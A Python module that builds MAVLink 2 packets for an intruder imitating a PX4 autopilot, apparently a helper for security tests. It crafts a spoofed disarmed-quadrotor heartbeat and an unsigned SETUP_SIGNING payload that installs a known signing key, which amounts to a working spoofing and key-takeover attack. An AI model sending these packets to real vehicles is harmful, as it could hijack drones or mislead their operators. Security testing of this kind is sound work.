"""MAVLink packets of an intruder who imitates a vehicle's PX4.

They are packed by hand, after https://mavlink.io/en/guide/serialization.html, so that no library
limits what an attacker can send.
"""

from __future__ import annotations

import struct

# message ids, and the checksum seed (CRC_EXTRA) of each message
HEARTBEAT = 0
SETUP_SIGNING = 256
_CHECKSUM_SEEDS = {HEARTBEAT: 50, SETUP_SIGNING: 71}

_MAGIC = b"\xfd"  # a packet of MAVLink 2 begins with it

# fields of a heartbeat: MAV_TYPE_QUADROTOR, MAV_AUTOPILOT_PX4, MAV_STATE_STANDBY, MAVLink version
_QUADROTOR = 2
_PX4 = 12
_STANDBY = 3
_VERSION = 3


def packet(
    message_id: int, payload: bytes, system_id: int, sequence: int, component_id: int = 1
) -> bytes:
    """Return an unsigned packet of MAVLink 2.

    Args:
        message_id: HEARTBEAT or SETUP_SIGNING.
        payload: payload of the message; zeros at its end are cut off, as MAVLink 2 demands.
        system_id: system id of the sender; only its lowest byte counts.
        sequence: number of the packet; only its lowest byte counts.
        component_id: component id of the sender.
    """
    if payload.strip(b"\0"):
        payload = payload.rstrip(b"\0")
    else:
        payload = b"\0"  # one byte always stays
    header = bytes((len(payload), 0, 0, sequence & 255))
    ids = bytes((system_id & 255, component_id)) + message_id.to_bytes(3, "little")
    body = header + ids + payload

    seed = bytes((_CHECKSUM_SEEDS[message_id],))
    return _MAGIC + body + struct.pack("<H", _checksum(body + seed))


def disarmed() -> bytes:
    """Return the payload of a heartbeat of a PX4 that is disarmed."""
    return struct.pack("<IBBBBB", 0, _QUADROTOR, _PX4, 0, _STANDBY, _VERSION)


def signing_key(system_id: int) -> bytes:
    """Return the payload of SETUP_SIGNING that sets a signing key in a PX4."""
    timestamp = 1
    component_id = 1
    key = bytes(range(32))
    return struct.pack("<QBB", timestamp, system_id, component_id) + key


def _checksum(data: bytes) -> int:
    """Return CRC-16/MCRF4XX, the checksum of MAVLink."""
    crc = 0xFFFF
    for byte in data:
        mixed = (byte ^ crc) & 0xFF
        mixed = (mixed ^ (mixed << 4)) & 0xFF
        crc = (crc >> 8) ^ (mixed << 8) ^ (mixed << 3) ^ (mixed >> 4)
    return crc
